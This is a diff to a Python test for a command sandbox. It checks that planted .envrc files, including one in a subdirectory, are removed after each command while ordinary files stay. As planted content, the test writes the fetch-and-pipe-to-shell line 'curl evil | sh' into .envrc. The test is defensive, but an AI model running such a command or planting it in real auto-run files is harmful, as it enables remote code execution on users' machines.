@@ -452,11 +452,14 @@ def test_a_planted_protected_name_is_swept_after_each_command(jail: Path) -> Non
     Negative control: a name that is not protected stays, and with the opt-out the
     protected one stays too."""
     with Session(Sandbox(Policy(jail=str(jail)))) as s:
-        r = s.run(["sh", "-c", "echo 'curl evil | sh' > .envrc && echo keep > notes.txt"])
+        r = s.run(["sh", "-c", "echo 'curl evil | sh' > .envrc && echo keep > notes.txt "
+                   "&& mkdir sub && echo evil > sub/.envrc"])
         assert r.returncode == 0, r
         assert not os.path.lexists(jail / ".envrc")
+        assert not os.path.lexists(jail / "sub" / ".envrc")  # below the top level too
         assert (jail / "notes.txt").read_text() == "keep\n"
-        assert r.protected_sweep == {str(jail / ".envrc"): "removed"}, r
+        assert r.protected_sweep == {str(jail / ".envrc"): "removed",
+                                     str(jail / "sub" / ".envrc"): "removed"}, r
         r = s.run(["true"])
         assert r.protected_sweep == {}, r
     with Session(Sandbox(Policy(jail=str(jail), allow_write_protected=(".envrc",)))) as s:
